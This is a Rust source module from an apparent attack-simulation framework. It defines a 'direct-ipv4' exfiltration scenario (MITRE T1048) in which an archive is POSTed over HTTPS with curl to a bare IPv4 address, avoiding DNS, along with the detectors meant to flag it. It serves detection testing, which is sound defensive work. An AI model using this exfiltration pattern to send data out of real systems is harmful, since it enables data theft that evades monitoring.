//! Straight to an address, without asking DNS and without a server name (T1048).

use super::{Attack, Channel, Kind, Mission, Pace, Role};
use crate::simulate::programs::CURL;
use crate::simulate::session::{Call, Session};

pub(super) static KIND: Kind = Kind {
    name: "direct-ipv4",
    about: "an archive goes to an IPv4 address that no name led to",
    technique: "T1048",
    channel: Channel::Https,
    found_by: &["direct_address", "upload_size"],
    paces: Pace::OF_AN_ARCHIVE,
    roles: &Role::each_way(act),
    sessions: 1,
};

pub(super) fn act(session: &mut Session, mission: &Mission) -> Attack {
    let host = mission.address(session.is_v6());
    mission.send(session, (&host, &CURL), |_, bytes| vec![Call::post("/up", bytes, 2)])
}
